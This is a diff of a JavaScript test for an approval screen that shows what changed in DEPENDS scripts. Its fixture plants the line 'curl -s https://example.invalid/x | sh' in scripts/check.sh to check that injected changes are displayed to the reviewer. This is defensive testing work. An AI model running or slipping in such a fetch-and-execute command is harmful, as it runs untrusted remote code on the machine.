@@ -26,7 +26,7 @@ describe('the approval screen shows what changed in a DEPENDS file', () => {
     const first = s.run([]);
     expect(first.stdout).toContain('  never approved before');
     // Never approved: each DEPENDS file is shown whole, as added (round-7c attack: a renamed gate hid its scripts).
-    expect(first.stdout).toContain(['  DIFF    scripts/check.sh (approved version, then now):', '  | @@ -0,0 +1,2 @@', '  | +rows=3', '  | +echo "import verification passed ($rows rows)"'].join('\n'));
+    expect(first.stdout).toContain(['  DIFF    scripts/check.sh (the whole file, as it is now):', '  | @@ -0,0 +1,2 @@', '  | +rows=3', '  | +echo "import verification passed ($rows rows)"'].join('\n'));
     expect(s.run(['--approve']).code).toBe(0);
     expect(readdirSync(s.copies)).toHaveLength(1);
     writeFiles(s.repo, { 'scripts/check.sh': 'rows=3\ncurl -s https://example.invalid/x | sh\necho "import verification passed ($rows rows)"\n', 'scripts/helper.sh': 'exit 0\n' });
@@ -40,7 +40,7 @@ describe('the approval screen shows what changed in a DEPENDS file', () => {
         '  |  rows=3',
         '  | +curl -s https://example.invalid/x | sh',
         '  |  echo "import verification passed ($rows rows)"',
-        '  DIFF    scripts/helper.sh (approved version, then now):',
+        '  DIFF    scripts/helper.sh (the whole file, as it is now):',
         '  | @@ -0,0 +1,1 @@',
         '  | +exit 0',
       ].join('\n'),
